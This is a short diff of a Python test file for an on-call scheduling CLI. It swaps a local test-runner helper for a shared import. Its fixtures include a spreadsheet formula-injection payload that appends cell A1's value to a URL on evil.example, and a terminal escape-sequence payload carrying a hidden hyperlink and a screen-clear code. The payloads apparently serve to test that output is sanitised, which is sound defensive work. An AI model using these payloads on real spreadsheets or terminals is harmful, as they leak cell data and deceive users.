@@ -14,17 +14,12 @@ from pathlib import Path
 
 import pytest
 from markdown_it import MarkdownIt
-from typer.testing import CliRunner
 
-from oncall.cli.app import app
+from tests.invoke import oncall as invoke
 
 DE = "schedules/data-engineering.yaml"
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 ESCAPES = "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07 \x1b[2J"
-
-
-def invoke(*args: str):
-    return CliRunner().invoke(app, list(args), catch_exceptions=False)
 
 
 def ok(*args: str):
